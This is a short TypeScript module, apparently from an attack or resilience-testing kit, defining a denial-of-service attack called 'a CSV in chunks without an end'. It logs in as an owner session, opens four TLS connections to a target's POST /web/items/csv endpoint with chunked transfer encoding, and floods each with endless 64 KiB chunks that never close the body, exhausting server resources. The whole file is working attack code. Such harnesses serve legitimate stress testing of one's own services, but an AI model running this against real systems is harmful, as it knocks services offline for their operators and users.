import type { Attack } from '../kit/attack.js';
import { head } from '../kit/target.js';
import { ownerOf } from '../kit/uploading.js';

let session: readonly string[] = [];

export const attack: Attack = {
  name: 'a CSV in chunks without an end',
  async prepare(target) {
    session = await ownerOf(target);
  },
  async run(target) {
    const begin = head('POST /web/items/csv', ...session, 'Transfer-Encoding: chunked');
    const chunk = Buffer.from(`10000\r\n${'a'.repeat(0x10000)}\r\n`);
    await target.repeat(4, async () => {
      const socket = await target.tls();
      socket?.resume().write(begin);
      await target.flood(socket, chunk);
    });
  },
};
